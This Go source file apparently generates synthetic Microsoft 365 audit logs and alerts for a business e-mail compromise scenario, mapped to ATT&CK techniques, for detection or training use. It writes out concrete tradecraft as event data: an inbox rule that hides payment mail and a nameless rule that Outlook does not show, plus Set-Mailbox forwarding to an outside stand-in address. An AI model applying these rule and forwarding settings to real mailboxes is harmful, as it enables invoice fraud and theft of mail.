package tenantgen

import "time"

// playInboxRule is business e-mail compromise: a sign-in with the right password and a satisfied
// claim, a rule that hides the answers, invoices read (T1564.008, T1114.003).
func playInboxRule(s *scene) {
	p := s.victim("Finance")
	at := s.ago(2*day + 9*hour)
	s.step(at, "T1078.004", "The intruder signs in to Outlook on the web")
	in := s.signIn(at, p, "One Outlook Web", 0, mfaEarlier)
	s.detected("unfamiliarFeatures", "medium", at, in, p, false, "")
	at = s.hideMail(at.add(11*time.Minute), in)
	s.takeMail(at.add(7*time.Minute), in)
	s.incident("Suspicious inbox rule", "high", "active", p)
}

// hideMail is the beat: mail is read, then a rule moves what concerns payments out of sight.
func (s *scene) hideMail(at moment, in *signIn) moment {
	s.step(at, "T1114.002", "Mail about invoices is read")
	for range s.r.between(8, 14) {
		s.mail(at, in, "MailItemsAccessed", itemAccess, "")
		at = at.add(time.Duration(s.r.between(15, 90)) * time.Second)
	}
	s.step(at, "T1564.008", "An inbox rule hides mail about payments")
	s.mail(at, in, "New-InboxRule", exchangeAdmin, in.person.upn+"\\..",
		[2]string{"Name", ".."}, [2]string{"SubjectOrBodyContainsWords", "invoice;payment;wire"}, [2]string{"MoveToFolder", "RSS Feeds"}, [2]string{"MarkAsRead", "True"}, [2]string{"StopProcessingRules", "True"})
	d := s.detected("mcasSuspiciousInboxManipulationRules", "high", at.add(40*time.Minute), nil, in.person, true, "MicrosoftCloudAppSecurity")
	d.activity, d.ip, d.place = at, in.ip, in.place
	at = at.add(6 * time.Minute)
	s.step(at, "T1534", "A message with new bank details is sent")
	s.mail(at, in, "Send", exchangeItem, "")
	return at
}

// takeMail is the beat: the mailbox is copied as a whole, then two ways keep new mail coming, one of which Outlook
// does not show: a rule without a name, written through MAPI.
func (s *scene) takeMail(at moment, in *signIn) {
	s.step(at, "T1114.002", "Folders are copied as a whole")
	for _, folder := range []string{`\Inbox`, `\Sent Items`} {
		s.mail(at, in, "MailItemsAccessed", itemAccess, "").copies(folder)
		at = at.add(50 * time.Second)
	}
	s.step(at, "T1114.002", "So much is read that Exchange stops recording it")
	s.mail(at, in, "MailItemsAccessed", itemAccess, "").properties = accessOf("Bind", true)
	at = at.add(4 * time.Minute)
	s.step(at, "T1114.003", "A rule that Outlook does not show forwards new mail")
	drop := "archive." + in.person.nick + "@mail-relay.example"
	s.mail(at, in, "UpdateInboxRules", exchangeItem, "").properties = [][2]string{{"RuleOperation", "AddMailboxRule"}, {"RuleId", s.r.guid().token()}, {"RuleName", ""}, {"RuleState", "Enabled"},
		{"RuleCondition", "{}"}, {"RuleProvider", ""}, {"RuleActions", `[{"ActionType":"Forward","Recipients":["` + drop + `"]}]`}}
	at = at.add(3 * time.Minute)
	s.step(at, "T1114.003", "The mailbox forwards to an address outside")
	s.mail(at, in, "Set-Mailbox", exchangeAdmin, in.person.upn, [2]string{"Identity", in.person.upn}, [2]string{"ForwardingSmtpAddress", "smtp:" + drop}, [2]string{"DeliverToMailboxAndForward", "True"})
}

// copies makes the event one of a folder that is fetched as a whole.
func (e *officeEvent) copies(folder string) {
	e.folder, e.properties = folder, accessOf("Sync", false)
}
